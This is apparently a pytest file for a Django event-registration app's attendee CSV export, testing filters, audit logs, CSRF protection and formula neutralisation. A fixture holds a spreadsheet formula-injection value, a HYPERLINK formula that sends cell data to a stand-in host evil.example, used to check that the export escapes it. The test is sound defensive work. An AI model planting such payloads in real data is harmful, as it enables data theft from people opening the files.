"""The attendee export: the same CSV from the admin action, the event page and the command."""

import datetime
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from registrations.export import neutralise
from registrations.models import ExportLog, Registration
from tests.factories import EventFactory, RegistrationFactory
from tests.staff.conftest import read_csv

pytestmark = pytest.mark.django_db

HEADER = [
    "Nachname",
    "Vorname",
    "E-Mail-Adresse",
    "Organisation oder Kommune",
    "Status",
    "Angemeldet am",
    "Bestätigt am",
    "Teilgenommen",
    "Frage an das Podium",
    "Teilnahme",
]


@pytest.fixture
def event():
    event = EventFactory(slug="landtagstalk-kommune", title="Kommune der Zukunft")
    confirmed_at = timezone.make_aware(datetime.datetime(2021, 4, 27, 18, 5))
    RegistrationFactory(
        event=event,
        first_name='=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
        last_name="Özdemir",
        email="oezdemir@example.org",
        organisation="Stadt Castrop-Rauxel",
        status=Registration.Status.CONFIRMED,
        confirmed_at=confirmed_at,
        attended=True,
        question="+49 Frage: Wie geht's weiter mit dem OZG?",
    )
    RegistrationFactory(
        event=event,
        first_name="Jürgen",
        last_name="Müller",
        email="mueller@example.org",
        organisation="@Köln",
        status=Registration.Status.WAITLISTED,
    )
    RegistrationFactory(event=EventFactory(), last_name="Andere Veranstaltung")
    return event


def download(response):
    assert response.status_code == 200, response
    assert response.streaming
    return b"".join(response.streaming_content)


def test_export_button_file_reads_back_as_spreadsheet_would(client, participant_manager, event):
    client.force_login(participant_manager)
    url = reverse("admin:registrations_registration_event_export", args=[event.pk])
    response = client.post(url)

    rows = read_csv(download(response))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="teilnehmende-landtagstalk-kommune.csv"' in response["Content-Disposition"]
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == ["Müller", "Özdemir"]
    mueller, oezdemir = rows[1], rows[2]
    assert oezdemir == [
        "Özdemir",
        '\'=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
        "oezdemir@example.org",
        "Stadt Castrop-Rauxel",
        "Bestätigt",
        oezdemir[5],
        "27.04.2021 18:05",
        "Ja",
        "'+49 Frage: Wie geht's weiter mit dem OZG?",
        "Online",
    ]
    assert datetime.datetime.strptime(oezdemir[5], "%d.%m.%Y %H:%M")
    assert mueller[1:5] == ["Jürgen", "mueller@example.org", "'@Köln", "Warteliste"]
    assert mueller[6:8] == ["", "Nein"]


def test_export_button_filters_by_status(client, participant_manager, event):
    client.force_login(participant_manager)
    url = reverse("admin:registrations_registration_event_export", args=[event.pk])

    rows = read_csv(download(client.post(url, {"status": "waitlisted"})))

    assert [row[0] for row in rows] == ["Nachname", "Müller"]


def test_export_is_recorded_with_user_event_and_rows(client, participant_manager, event):
    client.force_login(participant_manager)
    url = reverse("admin:registrations_registration_event_export", args=[event.pk])
    download(client.post(url, {"status": "confirmed"}))

    log = ExportLog.objects.get()
    assert (log.user, log.event, log.row_count) == (participant_manager, event, 1)
    assert "Kommune der Zukunft (Bestätigt)" in log.description


def test_export_action_exports_selected_rows_only(client, participant_manager, event):
    client.force_login(participant_manager)
    oezdemir = Registration.objects.get(last_name="Özdemir")
    response = client.post(
        reverse("admin:registrations_registration_changelist"),
        {"action": "export_csv", "_selected_action": [oezdemir.pk]},
    )

    rows = read_csv(download(response))

    assert [row[0] for row in rows] == ["Nachname", "Özdemir"]
    log = ExportLog.objects.get()
    assert (log.event, log.row_count) == (event, 1)
    assert log.description.startswith("Auswahl in der Anmeldeliste")


def test_export_command_writes_same_file_to_stdout(client, participant_manager, event):
    client.force_login(participant_manager)
    from_admin = download(
        client.post(reverse("admin:registrations_registration_event_export", args=[event.pk]))
    )
    out = StringIO()

    call_command("export_attendees", "landtagstalk-kommune", stdout=out)

    assert out.getvalue().encode("utf-8") == from_admin
    assert ExportLog.objects.filter(user=None, event=event, row_count=2).exists()


def test_export_command_filters_by_several_statuses(event):
    RegistrationFactory(event=event, last_name="Abel", status=Registration.Status.CANCELLED)
    out = StringIO()

    call_command(
        "export_attendees", event.slug, "--status", "confirmed", "--status", "cancelled", stdout=out
    )

    rows = read_csv(out.getvalue().encode("utf-8"))
    assert [(row[0], row[4]) for row in rows[1:]] == [
        ("Abel", "Storniert"),
        ("Özdemir", "Bestätigt"),
    ]


def test_export_command_unknown_slug_says_so():
    with pytest.raises(
        CommandError, match="keine Veranstaltung mit dem Kurznamen „gibt-es-nicht“"
    ):
        call_command("export_attendees", "gibt-es-nicht", stdout=StringIO())
    assert not ExportLog.objects.exists()


def test_export_of_purged_registrations_keeps_status_without_names(client, participant_manager):
    event = EventFactory()
    RegistrationFactory(
        event=event,
        first_name="",
        last_name="",
        email="",
        token=None,
        status=Registration.Status.CONFIRMED,
        attended=True,
        purged_at=timezone.now(),
    )
    client.force_login(participant_manager)

    rows = read_csv(
        download(
            client.post(reverse("admin:registrations_registration_event_export", args=[event.pk]))
        )
    )

    assert rows[1][:5] == ["", "", "", "", "Bestätigt"]
    assert rows[1][7] == "Ja"


def test_export_in_english_for_english_staff(client, participant_manager, event):
    client.force_login(participant_manager)
    url = reverse("admin:registrations_registration_event_export", args=[event.pk])

    rows = read_csv(download(client.post(url, headers={"accept-language": "en"})))

    assert rows[0][:2] == ["Last name", "First name"]
    assert rows[1][4] == "Waiting list"
    assert rows[1][7] == "No"


def test_export_reads_rows_in_chunks_with_bounded_queries(
    client, participant_manager, event, django_assert_max_num_queries
):
    RegistrationFactory.create_batch(30, event=event)
    client.force_login(participant_manager)
    url = reverse("admin:registrations_registration_event_export", args=[event.pk])

    with django_assert_max_num_queries(10):
        rows = read_csv(download(client.post(url)))

    assert len(rows) == 33


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+49 211 884", "'+49 211 884"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Müller-Lüdenscheidt", "Müller-Lüdenscheidt"),
        ("", ""),
    ],
)
def test_neutralise_prefixes_formula_cells_and_keeps_text(value, expected):
    assert neutralise(value) == expected


def test_export_button_refuses_get_and_records_nothing(client, participant_manager, event):
    # A link followed from another site (SameSite=Lax sends the cookies) must not export.
    client.force_login(participant_manager)
    url = reverse("admin:registrations_registration_event_export", args=[event.pk])

    response = client.get(url, {"status": "confirmed"})

    assert response.status_code == 405
    assert not ExportLog.objects.exists()


def test_export_button_needs_the_csrf_token(participant_manager, event):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(participant_manager)
    url = reverse("admin:registrations_registration_event_export", args=[event.pk])

    response = client.post(url)

    assert response.status_code == 403
    assert not ExportLog.objects.exists()
